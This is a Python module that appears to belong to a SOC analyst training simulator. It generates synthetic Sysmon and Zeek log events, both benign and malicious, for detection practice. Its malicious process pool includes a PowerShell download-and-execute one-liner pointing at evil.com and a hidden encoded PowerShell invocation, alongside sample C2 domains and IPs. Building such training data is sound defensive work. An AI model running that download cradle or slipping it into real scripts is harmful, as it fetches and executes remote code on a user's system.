"""Low-level log record builders (Sysmon- and Zeek-shaped events)."""
import hashlib
from datetime import datetime, timezone
from typing import Any, Dict, Optional

from soctrainer.models import (
    EventKind,
    LogSource,
    NetworkContext,
    ProcessTreeNode,
    SimulatedEvent,
)
from soctrainer.services.context import SessionContext

# Infrastructure pools
MALICIOUS_IPS = ["185.220.101.47", "45.146.164.110", "185.220.100.252", "91.219.236.18", "194.165.16.11"]
MALICIOUS_DOMAINS = ["c2-malicious-domain.com", "evil-command-control.net", "suspicious-beacon.org", "cdn-update-secure.net"]
BENIGN_IPS = ["8.8.8.8", "1.1.1.1", "13.107.42.14", "52.167.144.188", "140.82.112.3"]
BENIGN_DOMAINS = ["microsoft.com", "google.com", "github.com", "stackoverflow.com", "office365.com"]
INTERNAL_DNS_SERVER = "10.0.0.53"

MALICIOUS_PROCESSES = [
    ("C:\\Users\\Public\\malware.exe", "malware.exe /silent /install"),
    ("C:\\Windows\\Temp\\payload.exe", "payload.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.com/p.ps1')\""),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
]
BENIGN_PROCESSES = [
    ("C:\\Program Files\\Microsoft Office\\Office16\\WINWORD.EXE", "WINWORD.EXE /n"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE /recycle"),
]
MALICIOUS_FILES = ["C:\\Users\\Public\\payload.exe", "C:\\Windows\\Temp\\backdoor.dll", "C:\\ProgramData\\malware.bat"]
BENIGN_FILES = ["C:\\Users\\user\\Documents\\report.docx", "C:\\Users\\user\\Downloads\\invoice.pdf", "C:\\Windows\\Temp\\setup.tmp"]

# Default threat score for malicious records of each kind
MALICIOUS_THREAT_SCORES = {
    EventKind.PROCESS_CREATE: 85,
    EventKind.NETWORK_CONNECT: 80,
    EventKind.DNS_QUERY: 75,
    EventKind.HTTP_REQUEST: 80,
    EventKind.FILE_CREATE: 65,
}

SYSMON_EVENT_IDS = {
    EventKind.PROCESS_CREATE: 1,
    EventKind.NETWORK_CONNECT: 3,
    EventKind.FILE_CREATE: 11,
    EventKind.DNS_QUERY: 22,
}


def file_hash(path: str, salt: str = "") -> str:
    """Stable uppercase SHA-256 for a synthetic file, unique per scenario salt."""
    return hashlib.sha256(f"{salt}:{path}".encode("utf-8")).hexdigest().upper()


def _hashes_field(path: str, salt: str) -> str:
    md5 = hashlib.md5(f"{salt}:{path}".encode("utf-8")).hexdigest().upper()
    return f"MD5={md5},SHA256={file_hash(path, salt)}"


def _image_name(image: str) -> str:
    return image.replace("/", "\\").split("\\")[-1]


def _timestamp(context: Dict[str, Any], ctx: SessionContext) -> datetime:
    value = context.get("timestamp")
    if isinstance(value, datetime):
        return value if value.tzinfo else value.replace(tzinfo=timezone.utc)
    if isinstance(value, str):
        return datetime.fromisoformat(value.replace("Z", "+00:00"))
    return ctx.clock.now()


def _process_create(is_malicious: bool, context: Dict[str, Any], ctx: SessionContext) -> Dict[str, Any]:
    rng = ctx.rng
    if context.get("image") or context.get("process_name"):
        image = context.get("image") or context["process_name"]
        command_line = context.get("command_line") or _image_name(image)
    else:
        image, command_line = rng.choice(MALICIOUS_PROCESSES if is_malicious else BENIGN_PROCESSES)
    process_id = str(context.get("process_id") or rng.randint(1000, 50999))
    parent_id = str(context.get("parent_process_id") or rng.randint(100, 5099))
    parent = context.get("parent_process") or ("WINWORD.EXE" if is_malicious else "explorer.exe")
    user = context["username"]
    salt = context.get("scenario_id") or ctx.session_id
    return {
        "source": LogSource.SYSMON,
        "process_tree": ProcessTreeNode(
            process_id=process_id,
            process_name=_image_name(image),
            command_line=command_line,
            parent_id=parent_id,
            user=user,
            hostname=context["hostname"],
        ),
        "details": {
            "EventID": SYSMON_EVENT_IDS[EventKind.PROCESS_CREATE],
            "Image": image,
            "CommandLine": command_line,
            "ProcessId": process_id,
            "ParentProcessId": parent_id,
            "ParentImage": parent,
            "User": user,
            "IntegrityLevel": "High" if is_malicious else "Medium",
            "Company": "-" if is_malicious else "Microsoft Corporation",
            "Hashes": _hashes_field(image, salt),
        },
    }


def _network_connect(is_malicious: bool, context: Dict[str, Any], ctx: SessionContext) -> Dict[str, Any]:
    rng = ctx.rng
    dest_ip = context.get("dest_ip") or rng.choice(MALICIOUS_IPS if is_malicious else BENIGN_IPS)
    dest_port = context.get("dest_port") or (rng.randint(8000, 8999) if is_malicious else rng.choice([80, 443, 53]))
    source_port = rng.randint(49152, 65535)
    image = context.get("image") or (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" if is_malicious
        else "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    )
    return {
        "source": LogSource.SYSMON,
        "network_context": NetworkContext(
            source_ip=context["source_ip"],
            source_port=source_port,
            dest_ip=dest_ip,
            dest_port=int(dest_port),
            protocol="tcp",
        ),
        "details": {
            "EventID": SYSMON_EVENT_IDS[EventKind.NETWORK_CONNECT],
            "Image": image,
            "User": context["username"],
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": context["source_ip"],
            "SourcePort": str(source_port),
            "DestinationIp": dest_ip,
            "DestinationPort": str(dest_port),
        },
    }


def _dns_query(is_malicious: bool, context: Dict[str, Any], ctx: SessionContext) -> Dict[str, Any]:
    rng = ctx.rng
    domain = context.get("domain") or rng.choice(MALICIOUS_DOMAINS if is_malicious else BENIGN_DOMAINS)
    answer = context.get("dest_ip") or rng.choice(MALICIOUS_IPS if is_malicious else BENIGN_IPS)
    return {
        "source": LogSource.SYSMON,
        # Queries go to the internal resolver, so the resolver never becomes an IOC
        "network_context": NetworkContext(
            source_ip=context["source_ip"],
            dest_ip=INTERNAL_DNS_SERVER,
            dest_port=53,
            protocol="udp",
        ),
        "details": {
            "EventID": SYSMON_EVENT_IDS[EventKind.DNS_QUERY],
            "Image": context.get("image") or "C:\\Windows\\System32\\svchost.exe",
            "QueryName": domain,
            "QueryStatus": "0",
            "QueryResults": answer,
            "User": context["username"],
        },
    }


def _file_create(is_malicious: bool, context: Dict[str, Any], ctx: SessionContext) -> Dict[str, Any]:
    rng = ctx.rng
    filename = context.get("filename") or rng.choice(MALICIOUS_FILES if is_malicious else BENIGN_FILES)
    salt = context.get("scenario_id") or ctx.session_id
    return {
        "source": LogSource.SYSMON,
        "details": {
            "EventID": SYSMON_EVENT_IDS[EventKind.FILE_CREATE],
            "Image": context.get("image") or ("C:\\Windows\\System32\\cmd.exe" if is_malicious else "C:\\Windows\\explorer.exe"),
            "TargetFilename": filename,
            "User": context["username"],
            "Hashes": _hashes_field(filename, salt),
        },
    }


def _http_request(is_malicious: bool, context: Dict[str, Any], ctx: SessionContext) -> Dict[str, Any]:
    rng = ctx.rng
    host = context.get("domain") or rng.choice(MALICIOUS_DOMAINS if is_malicious else BENIGN_DOMAINS)
    dest_ip = context.get("dest_ip") or rng.choice(MALICIOUS_IPS if is_malicious else BENIGN_IPS)
    uri = context.get("uri") or (
        f"/beacon?id={rng.getrandbits(40):010x}" if is_malicious else rng.choice(["/", "/search", "/about"])
    )
    method = context.get("method") or ("POST" if is_malicious else rng.choice(["GET", "POST"]))
    dest_port = 443 if uri.startswith("/exfil") else 80
    return {
        "source": LogSource.ZEEK,
        "network_context": NetworkContext(
            source_ip=context["source_ip"],
            source_port=rng.randint(49152, 65535),
            dest_ip=dest_ip,
            dest_port=dest_port,
            protocol="tcp",
        ),
        "details": {
            "uid": f"C{rng.getrandbits(48):012x}",
            "method": method,
            "host": host,
            "uri": uri,
            "user_agent": (
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)" if is_malicious
                else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
            ),
            "request_body_len": rng.randint(200, 5000) if is_malicious else rng.randint(0, 1000),
            "status_code": 200 if is_malicious else rng.choice([200, 301, 404]),
        },
    }


_BUILDERS = {
    EventKind.PROCESS_CREATE: _process_create,
    EventKind.NETWORK_CONNECT: _network_connect,
    EventKind.DNS_QUERY: _dns_query,
    EventKind.FILE_CREATE: _file_create,
    EventKind.HTTP_REQUEST: _http_request,
}


def build_event(
    kind: EventKind,
    is_malicious: bool,
    context: Optional[Dict[str, Any]],
    ctx: SessionContext,
) -> SimulatedEvent:
    """Build one structured log record.

    ``context`` may carry hostname, username, source_ip, timestamp,
    scenario_id, technique_id, stage, threat_score, correlation_key and any
    kind-specific override (image, command_line, dest_ip, domain, filename...).
    Missing values are filled from the session RNG.
    """
    kind = EventKind(kind)
    context = dict(context or {})
    context.setdefault("hostname", f"WIN-{ctx.rng.getrandbits(32):08X}")
    context.setdefault("username", "CORP\\user")
    context.setdefault("source_ip", f"10.0.1.{ctx.rng.randint(2, 254)}")

    parts = _BUILDERS[kind](is_malicious, context, ctx)

    if context.get("threat_score") is not None:
        threat_score = int(context["threat_score"])
    elif is_malicious:
        threat_score = MALICIOUS_THREAT_SCORES[kind]
    else:
        threat_score = ctx.rng.randint(0, 20)

    return SimulatedEvent(
        id=ctx.new_id("event"),
        session_id=ctx.session_id,
        scenario_id=context.get("scenario_id"),
        source=parts["source"],
        kind=kind,
        timestamp=_timestamp(context, ctx),
        hostname=context["hostname"],
        is_malicious=is_malicious,
        threat_score=threat_score,
        technique_id=context.get("technique_id") if is_malicious else None,
        stage=context.get("stage") if is_malicious else None,
        network_context=parts.get("network_context"),
        process_tree=parts.get("process_tree"),
        details=parts["details"],
        correlation_key=context.get("correlation_key"),
    )
